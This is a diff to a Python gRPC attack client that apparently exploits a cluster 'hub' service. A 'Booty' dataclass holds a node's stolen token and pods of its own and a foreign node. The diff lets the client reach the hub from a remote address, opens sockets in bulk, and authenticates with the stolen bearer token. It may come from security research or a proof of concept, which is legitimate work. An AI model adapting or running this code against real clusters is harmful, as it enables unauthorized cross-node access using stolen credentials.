@@ -43,9 +43,11 @@ Call = grpc.aio.StreamStreamCall[bytes, bytes]
 @dataclass(frozen=True, slots=True)
 class Booty:
     """Where the hub is, and what has been stolen: a node's token. ``own`` and ``foreign`` are pods, by UID, of that
-    node and of another one; ``gang`` is the foreign pod's.
+    node and of another one; ``gang`` is the foreign pod's. ``host`` is the hub's as this client reaches it: from an
+    address that is not the agents'.
     """
 
+    host: str
     port: int
     bundle: str
     name: str
@@ -124,9 +126,10 @@ class Client:
         with contextlib.ExitStack() as opened:
             sockets = []
             for number in range(self._booty.connections):
-                plain = opened.enter_context(socket.socket())
+                family = socket.AF_INET6 if ":" in self._booty.host else socket.AF_INET
+                plain = opened.enter_context(socket.socket(family))
                 plain.settimeout(0)
-                plain.connect_ex(("127.0.0.1", self._booty.port))
+                plain.connect_ex((self._booty.host, self._booty.port))
                 sockets.append(plain)
                 if number % 20 == 0:
                     await asyncio.sleep(_PAUSE)
@@ -162,7 +165,8 @@ class Client:
         credentials = grpc.ssl_channel_credentials(self._booty.bundle.encode())
         options = [("grpc.ssl_target_name_override", self._booty.name), ("grpc.use_local_subchannel_pool", 1)]
         metadata = (("authorization", f"Bearer {token}"),) if token is not None else ()
-        async with grpc.aio.secure_channel(f"127.0.0.1:{self._booty.port}", credentials, options=options) as channel:
+        host = f"[{self._booty.host}]" if ":" in self._booty.host else self._booty.host
+        async with grpc.aio.secure_channel(f"{host}:{self._booty.port}", credentials, options=options) as channel:
             connect: grpc.aio.StreamStreamMultiCallable[bytes, bytes] = channel.stream_stream(_METHOD)
             call = connect(metadata=metadata)
             try:
